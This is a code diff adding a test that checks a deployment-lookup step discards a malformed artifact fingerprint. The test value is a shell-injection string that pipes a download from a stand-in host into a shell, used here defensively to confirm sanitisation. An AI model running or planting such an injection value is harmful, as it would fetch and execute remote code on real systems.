@@ -141,6 +141,21 @@ describe('get-deployment against a loopback server, whatever the sandbox profile
       expect(result.stdout).toContain('backend 1.6.0 replaced 1.4.0 (14 commits, compare)');
     });
 
+    it('a replaced fingerprint that is not a fingerprint never reaches the output', async () => {
+      const answer = deployment(
+        'https://github.com/acme/shop',
+        { from: 'a'.repeat(40), to: 'b'.repeat(40), committed: 1 },
+        2,
+      );
+      answer.replaced_artifact.fingerprint = '"; curl evil.test | sh; echo "';
+      const result = await askLoopback(answer, LOOKUP);
+      expect(result.outputs.outcome).toBe('found');
+      expect(result.outputs['replaced-fingerprint']).toBe('');
+      expect(result.everything).not.toContain('curl evil.test');
+      // It replaced something the step cannot read: never "nothing".
+      expect(result.summary).not.toContain('| Replaced | nothing |');
+    });
+
     it('leaves each empty, never guessed, where the answer does not give it', async () => {
       const [from, to] = ['a'.repeat(40), 'b'.repeat(40)];
       // Two repositories: nothing to compare. A start before the commit: no lead time. No checkout: no count.
